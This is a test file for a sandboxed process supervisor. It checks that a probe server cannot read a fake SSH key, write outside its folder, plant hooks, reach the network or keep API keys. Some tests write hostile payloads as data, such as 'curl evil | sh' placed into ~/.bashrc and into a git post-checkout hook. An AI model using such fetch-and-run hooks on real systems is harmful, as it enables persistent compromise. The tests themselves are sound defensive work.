// The supervisor for real: the probe server (a fixture of our own) runs through
// startProcess inside bubblewrap with a fake home holding a fake key, a data folder, a
// folder outside, and servers on the host; then unsandboxed. Its process trees must end
// on stop(), and when the process that started them is SIGKILLed.
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRequire, isBuiltin } from 'node:module';
import { createInterface } from 'node:readline';
import { pathToFileURL } from 'node:url';
import { build } from 'rolldown';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { collectProcessTree, isProcessAlive, processStartTicks } from '../process/process-tree';
import type { StepAttribution } from '../process/attribution';
import { detectSandbox } from './index';
import type { SandboxPolicy } from './types';
import { liveProcessCount, startProcess, stopAllProcesses } from './supervisor';
import type { SupervisedProcess } from './supervisor-types';

/**
 * Which of `pids` still run as the processes they are now. A pid handed out again since is
 * another process: the pid space may be small (32,768) and other tests fork by the thousand.
 */
function stillRunning(pids: readonly number[]): () => number[] {
  const starts = pids.map(processStartTicks);
  return () => pids.filter((pid, i) => isProcessAlive(pid) && processStartTicks(pid) === starts[i]);
}

const requireHere = createRequire(import.meta.url);
const PROBE = join(import.meta.dirname, '..', 'process', '__fixtures__', 'probe-server.mjs');
const SECRET = 'PRIVATE-KEY-5d1e77';
const DB_CONTENT = 'SQLITE-ROWS-2b9c';
const available = await detectSandbox();

let root: string;
let home: string;
let project: string;
let dataDir: string;
let outside: string;

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'deepdesk-proc-')));
  home = join(root, 'home');
  project = join(root, 'project');
  dataDir = join(root, 'data');
  outside = join(root, 'outside');
  for (const dir of [join(home, '.ssh'), project, dataDir, outside]) mkdirSync(dir, { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_rsa'), SECRET);
  writeFileSync(join(dataDir, 'deepdesk.db'), DB_CONTENT);
  writeFileSync(join(outside, 'target.txt'), 'original\n');
});

afterEach(async () => {
  await stopAllProcesses();
  rmSync(root, { recursive: true, force: true });
});

/** Talks to the probe server: one request, its answer. */
class Probe {
  private next = 1;
  private readonly waiting = new Map<number, (answer: { ok: boolean; value?: unknown; error?: string }) => void>();

  constructor(readonly server: SupervisedProcess) {
    createInterface({ input: server.stdout }).on('line', (line) => {
      const { id, ...answer } = JSON.parse(line) as { id: number; ok: boolean; value?: unknown; error?: string };
      this.waiting.get(id)?.(answer);
      this.waiting.delete(id);
    });
  }

  ask<T = unknown>(request: Record<string, unknown>): Promise<{ ok: boolean; value?: T; error?: string }> {
    const id = this.next++;
    return new Promise((resolve) => {
      this.waiting.set(id, resolve as (answer: { ok: boolean; value?: unknown; error?: string }) => void);
      this.server.stdin.write(`${JSON.stringify({ ...request, id })}\n`);
    });
  }
}

const policy = (extra: Partial<SandboxPolicy> = {}): SandboxPolicy => ({ projectDir: project, dataDir, ...extra });

async function startProbe(sandbox: SandboxPolicy | false, env: Record<string, string> = {}, baseEnv: NodeJS.ProcessEnv = { ...process.env, HOME: home }): Promise<Probe> {
  return new Probe(await startProcess({ command: process.execPath, args: [PROBE], cwd: project, env, baseEnv, sandbox }));
}

describe.skipIf(!available.available)('a sandboxed server (bubblewrap, for real)', () => {
  it('reads neither the home secrets nor the data folder, but other files', async () => {
    const probe = await startProbe(policy());
    expect(await probe.ask({ op: 'read', path: join(home, '.ssh', 'id_rsa') })).toEqual({ ok: false, error: 'EACCES' });
    const db = await probe.ask({ op: 'read', path: join(dataDir, 'deepdesk.db') });
    expect(db.ok).toBe(false);
    expect(JSON.stringify(db)).not.toContain(DB_CONTENT);
    expect(await probe.ask({ op: 'read', path: join(outside, 'target.txt') })).toEqual({ ok: true, value: 'original\n' });
  });

  it('writes in the folder (straight through, while it runs) and its own temp folder, nowhere else', async () => {
    const probe = await startProbe(policy());
    expect(await probe.ask({ op: 'write', path: join(project, 'made.txt'), text: 'by the server' })).toEqual({ ok: true, value: true });
    // No write layer: the file is in the folder at once, not when the server ends.
    expect(readFileSync(join(project, 'made.txt'), 'utf8')).toBe('by the server');
    const env = (await probe.ask<Record<string, string>>({ op: 'env' })).value!;
    expect(env.TMPDIR).toMatch(/deepdesk-server-/);
    expect(await probe.ask({ op: 'write', path: join(env.TMPDIR!, 'scratch'), text: 'x' })).toEqual({ ok: true, value: true });
    const escape = await probe.ask({ op: 'write', path: join(outside, 'target.txt'), text: 'pwned' });
    expect(escape.ok).toBe(false);
    expect(readFileSync(join(outside, 'target.txt'), 'utf8')).toBe('original\n');
    const hook = await probe.ask({ op: 'write', path: join(home, '.bashrc'), text: 'curl evil | sh' });
    expect(hook.ok).toBe(false);
    expect(existsSync(join(home, '.bashrc'))).toBe(false);
    await probe.server.stop();
    // Its temp folder goes with it.
    expect(existsSync(env.TMPDIR!)).toBe(false);
  });

  it('belongs to no checkpoint step, even when started during one', async () => {
    const asked: string[] = [];
    const attribution: StepAttribution = {
      expectLayer: () => void asked.push('layer'),
      blind: () => Promise.resolve(void asked.push('blind')),
      settle: (_planned, apply) => (asked.push('settle'), apply()),
    };
    // A step's attribution is handed to what runs its command (ExecuteOptions.attribution); a
    // server started while a step holds one is given none, so its writes are no step's.
    await (async (_held: StepAttribution) => {
      const probe = await startProbe(policy());
      await probe.ask({ op: 'write', path: join(project, 'during-step.txt'), text: 'x' });
      await probe.server.stop();
    })(attribution);
    expect(asked).toEqual([]);
    expect(readFileSync(join(project, 'during-step.txt'), 'utf8')).toBe('x');
  });

  it('moves a protected path made while it ran out of the folder into the quarantine, kept whole, and says so in its log', async () => {
    const probe = await startProbe(policy());
    // Made while the server runs: the server's or the person's, no one can tell.
    mkdirSync(join(project, '.deepdesk'));
    writeFileSync(join(project, '.deepdesk', 'hooks.json'), '{}');
    await probe.server.stop();
    expect(existsSync(join(project, '.deepdesk'))).toBe(false);
    const quarantine = join(dataDir, 'quarantine');
    const [kept] = readdirSync(quarantine);
    expect(readFileSync(join(quarantine, kept!, '.deepdesk', 'hooks.json'), 'utf8')).toBe('{}');
    expect(probe.server.logTail()).toContain(join(quarantine, kept!));
  });

  it('a protected path that appears through a link it made: the link is quarantined, what it leads to neither moves nor changes', async () => {
    // Stand-ins for the person's `~/.claude` and for the data folder's own settings and skills.
    const personClaude = join(home, '.claude');
    const people = { [join(personClaude, 'settings.json')]: '{"permissions":{"deny":["Bash(rm:*)"]}}', [join(personClaude, 'skills', 'mine', 'SKILL.md')]: 'mine\n' };
    const dataFiles = { [join(dataDir, 'settings.json')]: '{"theirs":true}', [join(dataDir, 'skills', 'theirs', 'SKILL.md')]: 'theirs\n' };
    for (const [file, text] of Object.entries({ ...people, ...dataFiles })) {
      mkdirSync(join(file, '..'), { recursive: true });
      writeFileSync(file, text);
    }
    const probe = await startProbe(policy());
    expect((await probe.ask({ op: 'symlink', target: dataDir, path: join(project, '.claude') })).ok).toBe(true);
    expect((await probe.ask({ op: 'symlink', target: personClaude, path: join(project, '.agents') })).ok).toBe(true);
    await probe.server.stop();
    for (const [file, text] of Object.entries({ ...people, ...dataFiles })) expect(readFileSync(file, 'utf8'), file).toBe(text);
    expect(existsSync(join(project, '.claude')) || existsSync(join(project, '.agents'))).toBe(false);
    const quarantine = join(dataDir, 'quarantine');
    // Each kept as the link it was (checks that ran apart keep theirs in folders of their own).
    for (const name of ['.claude', '.agents']) {
      const kept = readdirSync(quarantine).map((time) => join(quarantine, time, name)).filter((p) => lstatSync(p, { throwIfNoEntry: false }) !== undefined);
      expect(kept.map((p) => lstatSync(p).isSymbolicLink()), name).toEqual([true]);
    }
  });

  it('a repository it made keeps no hook once it ended: nothing it leaves runs later on the host', async () => {
    const probe = await startProbe(policy());
    const gitDir = join(project, 'sub', '.git');
    for (const dir of ['objects', 'refs', 'hooks']) expect((await probe.ask({ op: 'mkdir', path: join(gitDir, dir) })).ok).toBe(true);
    await probe.ask({ op: 'write', path: join(gitDir, 'HEAD'), text: 'ref: refs/heads/main\n' });
    await probe.ask({ op: 'write', path: join(gitDir, 'hooks', 'post-checkout'), text: '#!/bin/sh\ncurl evil | sh\n' });
    await probe.server.stop();
    expect(existsSync(join(gitDir, 'hooks', 'post-checkout'))).toBe(false);
  });

  it('a command missing inside the sandbox ends at once, its log tail saying so', async () => {
    const server = await startProcess({ command: 'deepdesk-no-such-server', args: [], cwd: project, env: {}, sandbox: policy() });
    expect((await server.exited).code).toBe(127);
    expect(server.logTail()).toMatch(/deepdesk-no-such-server: not found/);
  });

  describe('network', () => {
    let server: Server;
    let port: number;
    let connections = 0;

    beforeAll(async () => {
      server = createServer((socket) => {
        connections++;
        socket.end('hello\n');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      port = (server.address() as { port: number }).port;
    });

    afterAll(() => {
      server.close();
    });

    it('has none by default: the host loopback is out of reach', async () => {
      const probe = await startProbe(policy());
      const result = await probe.ask({ op: 'connect', host: '127.0.0.1', port });
      expect(result.ok).toBe(false);
      expect(connections).toBe(0);
    });

    const lan = Object.values(networkInterfaces())
      .flat()
      .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

    it.skipIf(!lan)('reaches its allowed domains through the proxy, and nothing else', async () => {
      const web: HttpServer = createHttpServer((_req, res) => res.end('allowed content'));
      await new Promise<void>((resolve) => web.listen(0, '0.0.0.0', resolve));
      const webPort = (web.address() as { port: number }).port;
      try {
        const probe = await startProbe(policy({ allowedDomains: [lan!] }));
        expect(await probe.ask({ op: 'get', url: `http://${lan}:${webPort}/` })).toEqual({ ok: true, value: { status: 200, body: 'allowed content' } });
        const other = await probe.ask<{ status: number }>({ op: 'get', url: 'http://example.com/' });
        expect(other.value?.status).toBe(403);
        // Around the proxy there is no network at all.
        expect((await probe.ask({ op: 'connect', host: lan, port: webPort })).ok).toBe(false);
      } finally {
        web.close();
      }
    });
  });

  it('stop() ends the whole tree, children that left its session included', async () => {
    const probe = await startProbe(policy());
    expect((await probe.ask<number[]>({ op: 'spawn' })).ok).toBe(true);
    const tree = collectProcessTree(probe.server.pid);
    // bwrap, its init, the server and its two children at least.
    expect(tree.length).toBeGreaterThanOrEqual(4);
    const running = stillRunning(tree);
    await probe.server.stop();
    expect(running()).toEqual([]);
    expect(liveProcessCount()).toBe(0);
  });
});

describe('the environment', () => {
  it('holds none of the app secrets, but the entry env (which wins), and no colour forcing', async () => {
    const baseEnv = {
      ...process.env,
      HOME: home,
      OPENAI_API_KEY: 'sk-openai-123456789',
      ANTHROPIC_API_KEY: 'sk-ant-123456789',
      MISTRAL_API_KEY: 'mistral-123456789',
      DEEPDESK_INTERNAL_TOKEN: 'internal-123456789',
      FORCE_COLOR: '3',
      SOME_SETTING: 'base',
    };
    const modes: (SandboxPolicy | false)[] = available.available ? [policy(), false] : [false];
    for (const mode of modes) {
      const probe = await startProbe(mode, { GITHUB_TOKEN: 'entry-token', SOME_SETTING: 'entry' }, baseEnv);
      const env = (await probe.ask<Record<string, string>>({ op: 'env' })).value!;
      for (const name of ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'MISTRAL_API_KEY', 'DEEPDESK_INTERNAL_TOKEN', 'FORCE_COLOR']) expect(env[name]).toBeUndefined();
      expect(JSON.stringify(env)).not.toContain('123456789');
      expect(env.GITHUB_TOKEN).toBe('entry-token');
      expect(env.SOME_SETTING).toBe('entry');
      expect(env.TERM).toBe('dumb');
      expect(env.NO_COLOR).toBe('1');
      expect(env.GIT_TERMINAL_PROMPT).toBe('0');
      await probe.server.stop();
    }
  });
});

describe('an unsandboxed server', () => {
  it('stop() ends it and its children, the one in a session of its own included', async () => {
    const probe = await startProbe(false);
    const children = (await probe.ask<number[]>({ op: 'spawn' })).value!;
    expect(children).toHaveLength(2);
    await expect.poll(() => children.every(isProcessAlive)).toBe(true);
    const running = stillRunning([probe.server.pid, ...children]);
    await probe.server.stop();
    expect(running()).toEqual([]);
  });

  it('a server that exits by itself takes its children with it, and reports how it ended', async () => {
    const probe = await startProbe(false);
    const children = (await probe.ask<number[]>({ op: 'spawn' })).value!;
    const running = stillRunning(children);
    await probe.ask({ op: 'exit', code: 3 });
    expect(await probe.server.exited).toEqual({ code: 3, signal: null });
    expect(running()).toEqual([]);
  });

  it('keeps the tail of its stderr as plain lines', async () => {
    const server = await startProcess({ command: process.execPath, args: [PROBE], cwd: project, env: {}, sandbox: false, logLines: 3 });
    const probe = new Probe(server);
    const seen: string[] = [];
    server.onLog((line) => seen.push(line));
    // Its first line (bold red on a terminal) is there without the escapes.
    await expect.poll(() => server.logTail()).toBe('probe started');
    seen.length = 0;
    await probe.ask({ op: 'log', text: 'one\n\x1b[32mtwo\x1b[0m\nthr' });
    await probe.ask({ op: 'log', text: 'ee\nfour\r\n' });
    await expect.poll(() => server.logTail()).toBe('two\nthree\nfour');
    expect(seen).toEqual(['one', 'two', 'three', 'four']);
    await probe.ask({ op: 'log', text: 'last words' });
    await probe.ask({ op: 'exit', code: 1 });
    await server.exited;
    expect(server.logTail()).toBe('three\nfour\nlast words');
  });

  it('a command that does not exist is an error, not a process', async () => {
    await expect(startProcess({ command: 'deepdesk-no-such-server', args: [], cwd: project, env: {}, sandbox: false })).rejects.toThrow(
      /^could not start deepdesk-no-such-server: spawn deepdesk-no-such-server ENOENT/,
    );
  });
});

describe('no orphans when Deepdesk is SIGKILLed', () => {
  let parentScript: string;
  let buildDir: string;

  beforeAll(async () => {
    buildDir = mkdtempSync(join(tmpdir(), 'deepdesk-proc-parent-'));
    await build({
      input: join(import.meta.dirname, '__fixtures__', 'supervisor-parent.ts'),
      platform: 'node',
      external: (id) => !id.startsWith('.') && !id.startsWith('/') && !id.startsWith('\0'),
      logLevel: 'silent',
      // Built outside the project: packages are imported by their full paths (node's own modules by name).
      output: { dir: buildDir, format: 'esm', entryFileNames: 'parent.mjs', paths: (id) => (isBuiltin(id) ? id : pathToFileURL(requireHere.resolve(id)).href) },
    });
    parentScript = join(buildDir, 'parent.mjs');
  });

  afterAll(() => rmSync(buildDir, { recursive: true, force: true }));

  async function startParent(mode: 'sandboxed' | 'unsandboxed'): Promise<{ parent: ChildProcess; tree: number[] }> {
    const parent = spawn(process.execPath, [parentScript, mode, project, dataDir, PROBE], { stdio: ['ignore', 'pipe', 'inherit'] });
    const line = await new Promise<string>((resolve, reject) => {
      createInterface({ input: parent.stdout! }).once('line', resolve);
      parent.once('exit', (code) => reject(new Error(`the parent exited (${code})`)));
    });
    const { tree } = JSON.parse(line) as { pid: number; tree: number[] };
    return { parent, tree };
  }

  for (const mode of ['sandboxed', 'unsandboxed'] as const) {
    it.skipIf(mode === 'sandboxed' && !available.available)(`${mode}: the server and its children end`, async () => {
      const { parent, tree } = await startParent(mode);
      // The server and its two children at least (bwrap and its init too, sandboxed).
      expect(tree.length).toBeGreaterThanOrEqual(mode === 'sandboxed' ? 5 : 3);
      expect(tree.every(isProcessAlive)).toBe(true);
      const running = stillRunning(tree);
      parent.kill('SIGKILL');
      await expect.poll(running, { timeout: 60_000 }).toEqual([]);
    });
  }
});
